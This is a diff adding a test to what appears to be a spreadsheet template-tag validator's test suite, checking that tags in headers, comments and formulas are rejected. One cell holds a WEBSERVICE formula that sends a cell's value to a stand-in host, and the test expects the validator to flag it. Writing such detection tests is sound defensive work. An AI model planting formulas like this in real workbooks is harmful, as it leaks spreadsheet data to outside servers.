@@ -76,6 +76,23 @@ describe("what is wrong with tags", () => {
     expect(text).toContain("第三张 A2 {合计:路线名称} “路线名称”不是可以相加的数字");
   });
 
+  it("includes tags where nothing is filled in, and formulas that fetch", async () => {
+    const problems = await said((sheet) => {
+      sheet.headerFooter.oddHeader = "&C{单位名称}";
+      sheet.getCell("A1").value = "{年度}";
+      sheet.getCell("B1").value = { formula: '"截至{截至月}月"' };
+      sheet.getCell("C1").value = { formula: "SUM({1,2,3})" };
+      sheet.getCell("D1").value = { formula: '_xlfn.WEBSERVICE("http://example.invalid/"&A1)' };
+      sheet.getCell("E1").note = "{填表人}填写";
+    });
+    expect(problems).toEqual([
+      "null null {填表人} 文本框、图表标题和批注里的标签不能填写，请写在单元格里",
+      "报表 null {单位名称} 页眉页脚里的标签不能填写，请写在单元格里",
+      '报表 B1 "截至{截至月}月" 公式里的标签不能填写，请把标签写在另一个单元格里再引用',
+      '报表 D1 _xlfn.WEBSERVICE("http://example.invalid/"&A1) 公式会从文件之外取数，请改为普通公式',
+    ]);
+  });
+
   it("includes having none", async () => {
     expect(await said((sheet) => void sheet.addRow(["一张没有标签的表"]))).toEqual([
       "null null  没有找到标签：在单元格中写上如 {年度}、{农村路.建设任务里程} 的标签",
